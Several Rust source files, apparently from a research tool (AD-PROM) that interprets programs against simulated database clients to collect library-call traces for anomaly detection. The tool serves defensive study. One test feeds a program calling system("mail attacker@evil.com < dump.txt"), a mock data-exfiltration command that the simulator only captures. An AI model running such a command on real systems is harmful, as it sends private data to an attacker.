        assert_eq!(&*collector.events()[0].caller, "helper");
    }

    #[test]
    fn labels_are_applied_dynamically() {
        let prog = parse_program("fn main() { let x = \"v\"; printf(\"%s\", x); }").unwrap();
        let mut labels = HashMap::new();
        prog.for_each_call(|site, callee, _| {
            if callee.name() == "printf" {
                labels.insert(site, "printf_Q9".to_string());
            }
        });
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &labels,
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert_eq!(collector.names(), vec!["printf_Q9"]);
    }

    #[test]
    fn step_limit_stops_infinite_loop() {
        let prog = parse_program("fn main() { while (1) { let x = 1; } }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let err = run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig {
                step_limit: 10_000,
                ..ExecConfig::default()
            },
        )
        .unwrap_err();
        assert_eq!(err, RuntimeError::StepLimit);
    }

    #[test]
    fn exit_terminates_program() {
        let (names, outcome) = run(
            "fn main() { puts(\"before\"); exit(0); puts(\"after\"); }",
            &[],
        );
        assert_eq!(names, vec!["puts", "exit"]);
        assert!(outcome.exited || outcome.stdout.contains("before"));
        assert!(!outcome.stdout.contains("after"));
    }

    #[test]
    fn file_writes_land_in_virtual_fs() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let f = fopen("out.txt", "w");
                fprintf(f, "value=%d", 42);
                fputs("!", f);
                fclose(f);
            }
            "#,
            &[],
        );
        assert_eq!(outcome.files.get("out.txt").unwrap(), "value=42!");
    }

    #[test]
    fn system_commands_are_captured() {
        let (_, outcome) = run(
            "fn main() { system(\"mail attacker@evil.com < dump.txt\"); }",
            &[],
        );
        assert_eq!(outcome.system_commands.len(), 1);
    }

    #[test]
    fn user_function_return_value() {
        let (_, outcome) = run(
            r#"
            fn main() { printf("%d", double(21)); }
            fn double(x) { return x * 2; }
            "#,
            &[],
        );
        assert_eq!(outcome.stdout, "42");
    }

    #[test]
    fn missing_table_degrades_gracefully() {
        // A mutated program may query a table that does not exist; the run
        // must produce an empty result set, not abort.
        let (names, outcome) = run(
            r#"
            fn main() {
                let r = PQexec(conn, "SELECT * FROM no_such_table");
                let n = PQntuples(r);
                printf("%d rows
", n);
                printf("%s", PQgetvalue(r, 0, 0));
                mysql_query(conn, "SELECT * FROM also_missing");
                let m = mysql_store_result(conn);
                let row = mysql_fetch_row(m);
                if (row == null) { puts("empty"); }
            }
            "#,
            &[],
        );
        assert!(outcome.stdout.contains("0 rows"));
        assert!(outcome.stdout.contains("empty"));
        assert_eq!(names.iter().filter(|n| *n == "printf").count(), 2);
    }

    #[test]
    fn scanf_consumes_inputs_in_order() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let a = scanf();
                let b = scanf();
                printf("%s-%s", a, b);
            }
            "#,
            &["first", "second"],
        );
        assert_eq!(outcome.stdout, "first-second");
    }
}
