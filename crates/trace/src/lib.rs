//! # adprom-trace
//!
//! The dynamic substrate of AD-PROM: a tree-walking [`interp`]reter that
//! executes application programs against the database client layer, the
//! bytecode [`vm`] that is the production trace-generation path (the
//! tree-walk stays as reference semantics; both share the host layer for
//! library-call behaviour), the Calls [`collector`] that intercepts library
//! calls (names + caller only, like the paper's Dyninst-based collector),
//! and an [`ltrace`] simulator — the heavyweight tracing baseline of Table
//! VI that additionally formats every argument and resolves instruction
//! pointers through a symbol table.

#![warn(missing_docs)]

pub mod batch;
pub mod collector;
mod host;
pub mod interleave;
pub mod interp;
pub mod ltrace;
pub mod validate;
pub mod value;
pub mod vm;

pub use batch::{BatchCollector, SessionSink};
pub use collector::{sliding_windows, CallEvent, CallSink, NullSink, TraceCollector};
pub use host::format_printf;
pub use interleave::{deinterleave, interleave, InterleavedCollector, SessionTap, TaggedCall};
pub use interp::{run_program, ExecConfig, ExecMode, ExecOutcome, RuntimeError};
pub use ltrace::LtraceCollector;
pub use validate::{
    check_event, EventDefect, QuarantinedTrace, ScreenedBatch, TraceValidator, ValidationPolicy,
};
pub use value::RtValue;
pub use vm::{execute_program, VmProgram};
