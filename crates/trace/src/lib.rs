//! # adprom-trace
//!
//! The dynamic substrate of AD-PROM: a tree-walking [`interp`]reter that
//! executes application programs against the database client layer, the
//! Calls [`collector`] that intercepts library calls (names + caller only,
//! like the paper's Dyninst-based collector), and an [`ltrace`] simulator —
//! the heavyweight tracing baseline of Table VI that additionally formats
//! every argument and resolves instruction pointers through a symbol table.

#![warn(missing_docs)]

pub mod batch;
pub mod collector;
pub mod interleave;
pub mod interp;
pub mod ltrace;
pub mod validate;
pub mod value;

pub use batch::{BatchCollector, SessionSink};
pub use collector::{sliding_windows, CallEvent, CallSink, NullSink, TraceCollector};
pub use interleave::{deinterleave, interleave, InterleavedCollector, SessionTap, TaggedCall};
pub use interp::{format_printf, run_program, ExecConfig, ExecOutcome, RuntimeError};
pub use ltrace::LtraceCollector;
pub use validate::{
    check_event, EventDefect, QuarantinedTrace, ScreenedBatch, TraceValidator, ValidationPolicy,
};
pub use value::RtValue;
