//! An `ltrace`-style heavyweight collector — the baseline of Table VI.
//!
//! The paper compares its Calls Collector against `ltrace` + `addr2line`:
//! ltrace records every library call *with its arguments* and the
//! instruction pointer, which is then translated to the caller function by
//! searching the binary's symbol table. This module reproduces that cost
//! structure: per event it formats all argument values, synthesizes an
//! instruction pointer, and resolves it by binary search over a simulated
//! symbol table — work the AD-PROM collector skips entirely.

use crate::collector::{CallEvent, CallSink};
use std::fmt::Write;

/// One fully-decorated ltrace record.
#[derive(Debug, Clone)]
pub struct LtraceRecord {
    /// Rendered line, e.g. `printf("%s", "alice") = 5 [0x401a32 main]`.
    pub line: String,
    /// Resolved caller (via the simulated addr2line).
    pub resolved_caller: String,
}

/// The heavyweight collector.
#[derive(Debug)]
pub struct LtraceCollector {
    records: Vec<LtraceRecord>,
    /// Sorted (address, function) pairs standing in for the symbol table of
    /// a statically linked binary.
    symbol_table: Vec<(u64, String)>,
    next_ip: u64,
}

impl LtraceCollector {
    /// Builds a collector whose simulated symbol table holds `n_symbols`
    /// entries spread over the text segment (a real statically linked
    /// binary has thousands).
    pub fn new(functions: &[String], n_symbols: usize) -> LtraceCollector {
        let n = n_symbols.max(functions.len()).max(1);
        let mut symbol_table = Vec::with_capacity(n);
        for i in 0..n {
            let name = functions
                .get(i % functions.len().max(1))
                .cloned()
                .unwrap_or_else(|| format!("sub_{i:x}"));
            symbol_table.push((0x400000 + (i as u64) * 0x40, name));
        }
        LtraceCollector {
            records: Vec::new(),
            symbol_table,
            next_ip: 0x400000,
        }
    }

    /// The decorated records.
    pub fn records(&self) -> &[LtraceRecord] {
        &self.records
    }

    /// addr2line: binary-search the symbol table for the enclosing symbol.
    fn addr2line(&self, ip: u64) -> &str {
        match self.symbol_table.binary_search_by_key(&ip, |(a, _)| *a) {
            Ok(i) => &self.symbol_table[i].1,
            Err(0) => &self.symbol_table[0].1,
            Err(i) => &self.symbol_table[i - 1].1,
        }
    }
}

impl CallSink for LtraceCollector {
    fn on_call(&mut self, event: CallEvent) {
        // Synthesize an instruction pointer that walks the text segment.
        self.next_ip = self
            .next_ip
            .wrapping_add(0x40 + (event.site.0 as u64 % 7) * 0x10);
        let span = self.symbol_table.len() as u64 * 0x40;
        let ip = 0x400000 + (self.next_ip % span.max(1));
        let resolved = self.addr2line(ip).to_string();

        // Format the full record — the per-argument work ltrace does and
        // the AD-PROM collector avoids.
        let mut line = String::with_capacity(64);
        let _ = write!(line, "{}(", event.name);
        let _ = write!(line, "site={}", event.site);
        let _ = write!(line, ") [ip=0x{ip:x} {resolved}] caller={}", event.caller);
        self.records.push(LtraceRecord {
            line,
            resolved_caller: resolved,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::{CallSiteId, LibCall};

    fn event(i: u32) -> CallEvent {
        CallEvent {
            name: "printf".into(),
            call: LibCall::Printf,
            caller: "main".into(),
            site: CallSiteId(i),
            detail: None,
        }
    }

    #[test]
    fn records_are_decorated() {
        let mut lt = LtraceCollector::new(&["main".to_string()], 100);
        lt.on_call(event(0));
        lt.on_call(event(1));
        assert_eq!(lt.records().len(), 2);
        assert!(lt.records()[0].line.contains("printf("));
        assert!(lt.records()[0].line.contains("ip=0x"));
    }

    #[test]
    fn addr2line_resolves_to_enclosing_symbol() {
        let lt = LtraceCollector::new(&["a".to_string(), "b".to_string()], 2);
        // Symbols at 0x400000 (a) and 0x400040 (b).
        assert_eq!(lt.addr2line(0x400000), "a");
        assert_eq!(lt.addr2line(0x40003F), "a");
        assert_eq!(lt.addr2line(0x400041), "b");
    }
}
