//! Multi-application, multi-session event streams.
//!
//! A deployed monitor does not see one program's trace at a time: the
//! collectors of many instrumented applications feed one interleaved
//! stream, each event tagged with the application and database session it
//! belongs to. [`TaggedCall`] is that wire unit; [`InterleavedCollector`]
//! builds the stream from per-session [`CallSink`] taps; and
//! [`interleave`] merges already-collected per-session traces under a
//! seeded deterministic shuffle — the test/bench harness for runtimes
//! whose correctness contract is "any interleaving scores identically to
//! the de-interleaved traces".

use crate::collector::{CallEvent, CallSink};

/// One event of the interleaved monitoring stream: which application
/// produced it, on which session, and the intercepted call itself.
#[derive(Debug, Clone, PartialEq)]
pub struct TaggedCall {
    /// Application id (the profile key at the monitor).
    pub app: String,
    /// Database session / connection id, unique within the app.
    pub session: String,
    /// The intercepted call.
    pub event: CallEvent,
}

/// Collects one interleaved stream from many concurrently-traced
/// sessions. Each session gets a [`SessionTap`] (a [`CallSink`]) that
/// stamps its app/session tags onto every event and appends it to the
/// shared stream in arrival order.
#[derive(Debug, Default)]
pub struct InterleavedCollector {
    stream: Vec<TaggedCall>,
}

impl InterleavedCollector {
    /// An empty stream.
    pub fn new() -> InterleavedCollector {
        InterleavedCollector::default()
    }

    /// A sink for one `(app, session)` pair. Taps borrow the collector, so
    /// sessions are traced one slice at a time (the interpreter is
    /// single-threaded); interleaving comes from alternating taps between
    /// slices, exactly like connections multiplexed onto one monitor.
    pub fn tap<'a>(&'a mut self, app: &str, session: &str) -> SessionTap<'a> {
        SessionTap {
            app: app.to_string(),
            session: session.to_string(),
            collector: self,
        }
    }

    /// Appends one tagged event directly.
    pub fn push(&mut self, app: &str, session: &str, event: CallEvent) {
        self.stream.push(TaggedCall {
            app: app.to_string(),
            session: session.to_string(),
            event,
        });
    }

    /// The stream so far, in arrival order.
    pub fn stream(&self) -> &[TaggedCall] {
        &self.stream
    }

    /// Consumes the collector, returning the stream.
    pub fn into_stream(self) -> Vec<TaggedCall> {
        self.stream
    }

    /// Events collected so far.
    pub fn len(&self) -> usize {
        self.stream.len()
    }

    /// True when nothing has been collected.
    pub fn is_empty(&self) -> bool {
        self.stream.is_empty()
    }
}

/// A [`CallSink`] stamping one `(app, session)` tag pair; see
/// [`InterleavedCollector::tap`].
#[derive(Debug)]
pub struct SessionTap<'a> {
    app: String,
    session: String,
    collector: &'a mut InterleavedCollector,
}

impl CallSink for SessionTap<'_> {
    fn on_call(&mut self, event: CallEvent) {
        self.collector.stream.push(TaggedCall {
            app: self.app.clone(),
            session: self.session.clone(),
            event: event.clone(),
        });
    }
}

/// Merges per-session traces into one interleaved stream under a seeded
/// deterministic shuffle. Each input is `(app, session, trace)`; the
/// output preserves every session's internal event order (a session is one
/// connection — its calls arrive in program order) while mixing sessions
/// in a pseudo-random but reproducible pattern.
///
/// The generator is a self-contained xorshift so benches and property
/// tests agree on the exact stream for a given seed.
pub fn interleave(sessions: &[(String, String, Vec<CallEvent>)], seed: u64) -> Vec<TaggedCall> {
    let mut cursors: Vec<usize> = vec![0; sessions.len()];
    let total: usize = sessions.iter().map(|(_, _, t)| t.len()).sum();
    let mut stream = Vec::with_capacity(total);
    // xorshift64*; seed 0 would be a fixed point, so displace it.
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.wrapping_mul(0x2545_F491_4F6C_DD1D)
    };
    while stream.len() < total {
        // Draw among sessions that still have events; weighting by
        // remaining length keeps long sessions from bunching at the tail.
        let remaining: usize = sessions
            .iter()
            .zip(&cursors)
            .map(|((_, _, t), &c)| t.len() - c)
            .sum();
        let mut pick = (next() % remaining as u64) as usize;
        for (i, (app, session, trace)) in sessions.iter().enumerate() {
            let left = trace.len() - cursors[i];
            if pick < left {
                stream.push(TaggedCall {
                    app: app.clone(),
                    session: session.clone(),
                    event: trace[cursors[i]].clone(),
                });
                cursors[i] += 1;
                break;
            }
            pick -= left;
        }
    }
    stream
}

/// Splits an interleaved stream back into per-session traces, keyed
/// `(app, session)` in first-appearance order — the reference the
/// equivalence tests score serially.
pub fn deinterleave(stream: &[TaggedCall]) -> Vec<(String, String, Vec<CallEvent>)> {
    let mut order: Vec<(String, String)> = Vec::new();
    let mut traces: std::collections::HashMap<(String, String), Vec<CallEvent>> =
        std::collections::HashMap::new();
    for tagged in stream {
        let key = (tagged.app.clone(), tagged.session.clone());
        traces.entry(key.clone()).or_insert_with(|| {
            order.push(key.clone());
            Vec::new()
        });
        traces.get_mut(&key).unwrap().push(tagged.event.clone());
    }
    order
        .into_iter()
        .map(|key| {
            let trace = traces.remove(&key).unwrap();
            (key.0, key.1, trace)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::{CallSiteId, LibCall};

    fn event(name: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: "main".into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn sessions() -> Vec<(String, String, Vec<CallEvent>)> {
        vec![
            (
                "bank".into(),
                "s-0".into(),
                vec![event("a"), event("b"), event("c")],
            ),
            ("bank".into(), "s-1".into(), vec![event("d"), event("e")]),
            (
                "shop".into(),
                "s-0".into(),
                vec![event("x"), event("y"), event("z"), event("w")],
            ),
        ]
    }

    #[test]
    fn interleave_preserves_per_session_order_and_round_trips() {
        let input = sessions();
        let stream = interleave(&input, 0xC0FFEE);
        assert_eq!(stream.len(), 9);
        // Same seed, same stream; different seed, (almost surely) not.
        assert_eq!(stream, interleave(&input, 0xC0FFEE));
        assert_ne!(stream, interleave(&input, 0xBEEF));
        // De-interleaving recovers every trace intact. First-appearance
        // order may differ from input order, so compare by key.
        let mut recovered = deinterleave(&stream);
        recovered.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
        let mut expected = input;
        expected.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
        assert_eq!(recovered, expected);
    }

    #[test]
    fn collector_taps_tag_and_merge_in_arrival_order() {
        let mut collector = InterleavedCollector::new();
        collector.tap("bank", "s-0").on_call(event("a"));
        collector.tap("shop", "s-9").on_call(event("x"));
        collector.tap("bank", "s-0").on_call(event("b"));
        assert_eq!(collector.len(), 3);
        let stream = collector.into_stream();
        assert_eq!(
            stream
                .iter()
                .map(|t| (t.app.as_str(), t.session.as_str(), &*t.event.name))
                .collect::<Vec<_>>(),
            vec![
                ("bank", "s-0", "a"),
                ("shop", "s-9", "x"),
                ("bank", "s-0", "b"),
            ]
        );
    }

    #[test]
    fn zero_seed_interleaves_without_degenerating() {
        let stream = interleave(&sessions(), 0);
        assert_eq!(stream.len(), 9);
        // The displaced seed must still mix sessions rather than drain
        // them one by one.
        let first_three: Vec<&str> = stream[..3].iter().map(|t| t.session.as_str()).collect();
        assert!(stream.iter().any(|t| t.app == "shop"));
        let _ = first_three;
    }
}
