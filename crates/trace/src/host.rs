//! The shared *host* semantics behind both runtimes.
//!
//! The tree-walking interpreter ([`crate::interp`]) and the bytecode VM
//! ([`crate::vm`]) must emit bit-identical traces; the way that is kept true
//! by construction is that everything a library call *does* — query the
//! session, consume stdin, write the virtual filesystem, advance the RNG —
//! lives here, in one implementation both runtimes call. The runtimes differ
//! only in how they walk the program; the world the program observes is this
//! module.
//!
//! The out-parameter convention is the one piece the runtimes implement
//! themselves (the tree-walk writes the frame map, the VM executes a
//! `StoreKeep` op): for every call in [`LibCall::out_param`]'s table,
//! [`Host::lib_call`]'s return value is exactly the value to store.

use crate::interp::{ExecConfig, ExecOutcome};
use crate::value::RtValue;
use adprom_client::ClientSession;
use adprom_lang::{BinOp, LibCall, UnOp};
use std::borrow::Cow;
use std::sync::Arc;

/// The mutable world a running program observes: database session, stdin,
/// virtual filesystem, RNG, and the accumulated [`ExecOutcome`].
pub(crate) struct Host<'a> {
    pub session: &'a mut ClientSession,
    pub inputs: &'a [String],
    pub next_input: usize,
    pub outcome: ExecOutcome,
    pub rng_state: u64,
    /// fopen handles: index → path.
    pub open_files: Vec<String>,
    pub extended_events: bool,
}

impl<'a> Host<'a> {
    pub fn new(
        session: &'a mut ClientSession,
        inputs: &'a [String],
        config: &ExecConfig,
    ) -> Host<'a> {
        Host {
            session,
            inputs,
            next_input: 0,
            outcome: ExecOutcome::default(),
            rng_state: config.rng_seed.wrapping_mul(0x9E3779B97F4A7C15) | 1,
            open_files: Vec::new(),
            extended_events: config.extended_events,
        }
    }

    /// Extension payload for the event about to be emitted (§VII): query
    /// signatures for submissions, file paths for file writes, the command
    /// line for `system`. `None` unless extended events are enabled.
    ///
    /// Must be called *before* [`Host::lib_call`] for the same call: details
    /// describe the world as the call sees it (an `fopen` detail is the path
    /// argument, not the handle the call is about to create).
    pub fn detail(&self, lc: LibCall, args: &[RtValue]) -> Option<String> {
        if !self.extended_events {
            return None;
        }
        let file_path = |v: Option<&RtValue>| -> Option<String> {
            match v {
                Some(RtValue::File(id)) => self.open_files.get(*id).cloned(),
                Some(RtValue::Str(path)) => Some(path.to_string()),
                _ => None,
            }
        };
        if lc.is_query_submission() {
            // The SQL text position varies: PQexec(conn, sql) / PQprepare(conn,
            // name, sql) / mysql_query(conn, sql) / mysql_stmt_prepare(conn, sql).
            let sql_index = match lc {
                LibCall::PQprepare => 2,
                _ => 1,
            };
            return args
                .get(sql_index)
                .map(|v| adprom_db::query_signature(&v.render()));
        }
        match lc {
            LibCall::Fopen => args.first().map(|v| v.render()),
            LibCall::Fprintf => file_path(args.first()),
            LibCall::Fputs | LibCall::Fputc => file_path(args.get(1)),
            LibCall::Fwrite => file_path(args.get(3)),
            LibCall::Write => file_path(args.first()),
            LibCall::System | LibCall::Remove => args.first().map(|v| v.render()),
            _ => None,
        }
    }

    /// Executes a library call against the host world. Returns `None` for
    /// `exit()`. The caller is responsible for the out-parameter write (see
    /// [`LibCall::out_param`]): the returned value is the value to store.
    pub fn lib_call(&mut self, lc: LibCall, args: &[RtValue]) -> Option<RtValue> {
        let arg = |i: usize| args.get(i).cloned().unwrap_or(RtValue::Null);
        // Text view of an argument: borrows string arguments in place (the
        // common case on the hot paths — SQL text, printf formats), renders
        // everything else.
        let str_arg = |i: usize| -> Cow<'_, str> {
            match args.get(i) {
                Some(RtValue::Str(s)) => Cow::Borrowed(&**s),
                Some(v) => Cow::Owned(v.render()),
                None => Cow::Borrowed(""),
            }
        };
        // Same, as a value to return: string arguments come back as a
        // refcount bump, never a copy.
        let str_val = |i: usize| -> RtValue {
            match args.get(i) {
                Some(RtValue::Str(s)) => RtValue::Str(Arc::clone(s)),
                Some(v) => RtValue::Str(v.render().into()),
                None => RtValue::Str("".into()),
            }
        };
        let handle = |i: usize| match args.get(i) {
            Some(RtValue::Handle(h)) => Some(*h),
            _ => None,
        };
        let v = match lc {
            // ---- libpq ----
            LibCall::PQconnectdb => str_val(0),
            LibCall::PQexec => match self.session.pq_exec(&str_arg(1)) {
                Ok(h) => RtValue::Handle(h),
                Err(_) => RtValue::Null,
            },
            LibCall::PQprepare => {
                let _ = self.session.pq_prepare(&str_arg(1), &str_arg(2));
                RtValue::Int(0)
            }
            LibCall::PQexecPrepared => {
                let params: Vec<String> = args[2..].iter().map(RtValue::render).collect();
                match self.session.pq_exec_prepared(&str_arg(1), &params) {
                    Ok(h) => RtValue::Handle(h),
                    Err(_) => RtValue::Null,
                }
            }
            // Handle-taking calls are lenient on NULL/garbage handles —
            // attack-mutated programs may query missing tables, and a run
            // must degrade (empty results) rather than abort.
            LibCall::PQntuples => match handle(0) {
                Some(h) => RtValue::Int(self.session.pq_ntuples(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::PQnfields => match handle(0) {
                Some(h) => RtValue::Int(self.session.pq_nfields(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::PQgetvalue => match handle(0) {
                Some(h) => {
                    let r = arg(1).as_int().unwrap_or(0).max(0) as usize;
                    let c = arg(2).as_int().unwrap_or(0).max(0) as usize;
                    RtValue::Str(
                        self.session
                            .pq_getvalue(h, r, c)
                            .unwrap_or_else(|_| Arc::from("")),
                    )
                }
                None => RtValue::Str("".into()),
            },
            LibCall::PQclear => {
                if let Some(h) = handle(0) {
                    let _ = self.session.pq_clear(h);
                }
                RtValue::Null
            }
            LibCall::PQfinish => RtValue::Null,

            // ---- libmysqlclient ----
            LibCall::MysqlInit | LibCall::MysqlRealConnect => RtValue::Str("conn".into()),
            LibCall::MysqlQuery => RtValue::Int(self.session.mysql_query(&str_arg(1))),
            LibCall::MysqlStoreResult => match self.session.mysql_store_result() {
                Ok(h) => RtValue::Handle(h),
                Err(_) => RtValue::Null,
            },
            LibCall::MysqlFetchRow => match handle(0) {
                Some(h) => match self.session.mysql_fetch_row(h) {
                    Ok(Some(row)) => RtValue::Row(row),
                    _ => RtValue::Null,
                },
                None => RtValue::Null,
            },
            LibCall::MysqlNumRows => match handle(0) {
                Some(h) => RtValue::Int(self.session.mysql_num_rows(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::MysqlNumFields => match handle(0) {
                Some(h) => RtValue::Int(self.session.mysql_num_fields(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::MysqlFreeResult => {
                if let Some(h) = handle(0) {
                    let _ = self.session.mysql_free_result(h);
                }
                RtValue::Null
            }
            LibCall::MysqlClose => RtValue::Null,
            LibCall::MysqlStmtPrepare => {
                let _ = self.session.mysql_stmt_prepare(&str_arg(1));
                RtValue::Int(0)
            }
            LibCall::MysqlStmtExecute => {
                let params: Vec<String> = args[1..].iter().map(RtValue::render).collect();
                let _ = self.session.mysql_stmt_execute(&params);
                RtValue::Int(0)
            }

            // ---- stdout ----
            LibCall::Printf => {
                let at = self.outcome.stdout.len();
                format_printf_into(
                    &mut self.outcome.stdout,
                    &str_arg(0),
                    &args[1.min(args.len())..],
                );
                RtValue::Int((self.outcome.stdout.len() - at) as i64)
            }
            LibCall::Puts => {
                self.outcome.stdout.push_str(&str_arg(0));
                self.outcome.stdout.push('\n');
                RtValue::Int(0)
            }
            LibCall::Putchar => {
                self.outcome.stdout.push_str(&str_arg(0));
                RtValue::Int(0)
            }

            // ---- files ----
            LibCall::Fopen => {
                let path = str_arg(0).into_owned();
                let mode = str_arg(1);
                if !mode.contains('a') {
                    self.outcome.files.insert(path.clone(), String::new());
                } else {
                    self.outcome.files.entry(path.clone()).or_default();
                }
                self.open_files.push(path);
                RtValue::File(self.open_files.len() - 1)
            }
            LibCall::Fprintf => {
                let text = format_printf(&str_arg(1), &args[2.min(args.len())..]);
                self.write_file(arg(0), &text);
                RtValue::Int(text.len() as i64)
            }
            LibCall::Fputs | LibCall::Fputc => {
                let text = str_arg(0);
                self.write_file(arg(1), &text);
                RtValue::Int(0)
            }
            LibCall::Fwrite => {
                let text = str_arg(0);
                self.write_file(arg(3), &text);
                RtValue::Int(text.len() as i64)
            }
            LibCall::Write => {
                // write(fd, buf, len): fd 1 = stdout, else a virtual fd.
                let fd = arg(0);
                let text = str_arg(1);
                if fd.as_int() == Some(1) {
                    self.outcome.stdout.push_str(&text);
                } else {
                    self.write_file(fd, &text);
                }
                RtValue::Int(text.len() as i64)
            }
            LibCall::Fclose | LibCall::Fflush => RtValue::Int(0),
            LibCall::Fread => RtValue::Str("".into()),
            LibCall::Remove => {
                self.outcome.files.remove(&*str_arg(0));
                RtValue::Int(0)
            }

            // ---- stdin (out-param store is the runtime's job) ----
            LibCall::Scanf
            | LibCall::Gets
            | LibCall::Getchar
            | LibCall::Fscanf
            | LibCall::Fgets => self.read_input(),

            // ---- strings ----
            LibCall::Strcpy | LibCall::Strncpy => str_val(1),
            LibCall::Strcat | LibCall::Strncat => {
                let mut dst = str_arg(0).into_owned();
                dst.push_str(&str_arg(1));
                RtValue::Str(dst.into())
            }
            LibCall::Sprintf | LibCall::Snprintf => {
                // sprintf(dst, fmt, ...) — snprintf has a size arg we ignore.
                let (fmt_idx, rest_idx) = if lc == LibCall::Snprintf {
                    (2, 3)
                } else {
                    (1, 2)
                };
                let text = format_printf(&str_arg(fmt_idx), &args[rest_idx.min(args.len())..]);
                RtValue::Str(text.into())
            }
            LibCall::Strcmp => {
                let a = str_arg(0);
                let b = str_arg(1);
                RtValue::Int(match a.cmp(&b) {
                    std::cmp::Ordering::Less => -1,
                    std::cmp::Ordering::Equal => 0,
                    std::cmp::Ordering::Greater => 1,
                })
            }
            LibCall::Strlen => RtValue::Int(str_arg(0).len() as i64),
            LibCall::Strstr => {
                let hay = str_arg(0);
                let needle = str_arg(1);
                match hay.find(&*needle) {
                    Some(pos) => RtValue::Str(Arc::from(&hay[pos..])),
                    None => RtValue::Null,
                }
            }
            LibCall::Atoi => RtValue::Int(parse_prefix_int(&str_arg(0))),
            LibCall::Atof => RtValue::Float(str_arg(0).trim().parse().unwrap_or(0.0)),
            LibCall::Memcpy => arg(1),
            LibCall::Memset => arg(0),

            // ---- misc ----
            LibCall::System => {
                self.outcome.system_commands.push(str_arg(0).into_owned());
                RtValue::Int(0)
            }
            LibCall::Exit => return None,
            LibCall::Malloc => RtValue::Str("".into()),
            LibCall::Free => RtValue::Null,
            LibCall::Rand => {
                // xorshift64*: deterministic per seed.
                self.rng_state ^= self.rng_state >> 12;
                self.rng_state ^= self.rng_state << 25;
                self.rng_state ^= self.rng_state >> 27;
                RtValue::Int(((self.rng_state.wrapping_mul(0x2545F4914F6CDD1D)) >> 33) as i64)
            }
            LibCall::Srand => {
                self.rng_state = arg(0).as_int().unwrap_or(0) as u64 | 1;
                RtValue::Null
            }
            LibCall::Time => RtValue::Int(1_600_000_000),
            LibCall::Getenv => RtValue::Str("".into()),
            LibCall::Sleep => RtValue::Int(0),
            LibCall::Abs => RtValue::Int(arg(0).as_int().unwrap_or(0).abs()),
            LibCall::Sqrt => RtValue::Float(arg(0).as_number().unwrap_or(0.0).max(0.0).sqrt()),
        };
        Some(v)
    }

    fn read_input(&mut self) -> RtValue {
        match self.inputs.get(self.next_input) {
            Some(line) => {
                self.next_input += 1;
                RtValue::Str(line.as_str().into())
            }
            None => RtValue::Str("".into()),
        }
    }

    fn write_file(&mut self, file: RtValue, text: &str) {
        let path = match file {
            RtValue::File(id) => self.open_files.get(id).cloned(),
            RtValue::Str(path) => Some(path.to_string()),
            _ => None,
        };
        let path = path.unwrap_or_else(|| "<unknown>".to_string());
        self.outcome.files.entry(path).or_default().push_str(text);
    }
}

/// Applies a unary operator.
pub(crate) fn unary_op(op: UnOp, v: RtValue) -> RtValue {
    match op {
        UnOp::Neg => match v {
            RtValue::Int(v) => RtValue::Int(-v),
            RtValue::Float(v) => RtValue::Float(-v),
            other => RtValue::Float(-other.as_number().unwrap_or(0.0)),
        },
        UnOp::Not => RtValue::Bool(!v.truthy()),
    }
}

/// Indexes a row or string; anything else (and out-of-range) yields null.
pub(crate) fn index_value(base: RtValue, idx: RtValue) -> RtValue {
    let i = idx.as_int().unwrap_or(0).max(0) as usize;
    match base {
        RtValue::Row(cols) => cols
            .get(i)
            .map(|s| RtValue::Str(Arc::clone(s)))
            .unwrap_or(RtValue::Null),
        RtValue::Str(s) => s
            .chars()
            .nth(i)
            .map(|c| RtValue::Str(c.to_string().into()))
            .unwrap_or(RtValue::Null),
        _ => RtValue::Null,
    }
}

/// Applies a non-short-circuit binary operator (`&&`/`||` are handled by the
/// runtimes: jumps in the VM, early return in the tree-walk).
pub(crate) fn binary_op(op: BinOp, a: RtValue, b: RtValue) -> RtValue {
    use BinOp::*;
    match op {
        Add => match (&a, &b) {
            (RtValue::Str(x), _) => RtValue::Str(format!("{x}{}", b.render()).into()),
            (_, RtValue::Str(y)) => RtValue::Str(format!("{}{y}", a.render()).into()),
            (RtValue::Int(x), RtValue::Int(y)) => RtValue::Int(x.wrapping_add(*y)),
            _ => num_op(&a, &b, |x, y| x + y),
        },
        Sub => int_preserving(&a, &b, i64::wrapping_sub, |x, y| x - y),
        Mul => int_preserving(&a, &b, i64::wrapping_mul, |x, y| x * y),
        Div => {
            if let (RtValue::Int(x), RtValue::Int(y)) = (&a, &b) {
                if *y != 0 {
                    return RtValue::Int(x / y);
                }
                return RtValue::Int(0);
            }
            let y = b.as_number().unwrap_or(0.0);
            if y == 0.0 {
                RtValue::Float(0.0)
            } else {
                num_op(&a, &b, |x, y| x / y)
            }
        }
        Rem => {
            let x = a.as_int().unwrap_or(0);
            let y = b.as_int().unwrap_or(0);
            RtValue::Int(if y == 0 { 0 } else { x % y })
        }
        Eq | Ne | Lt | Le | Gt | Ge => {
            let ord = compare(&a, &b);
            let r = match (op, ord) {
                (Eq, Some(o)) => o == std::cmp::Ordering::Equal,
                (Ne, Some(o)) => o != std::cmp::Ordering::Equal,
                (Lt, Some(o)) => o == std::cmp::Ordering::Less,
                (Le, Some(o)) => o != std::cmp::Ordering::Greater,
                (Gt, Some(o)) => o == std::cmp::Ordering::Greater,
                (Ge, Some(o)) => o != std::cmp::Ordering::Less,
                // Null comparisons: only != is true.
                (Ne, None) => !(matches!(a, RtValue::Null) && matches!(b, RtValue::Null)),
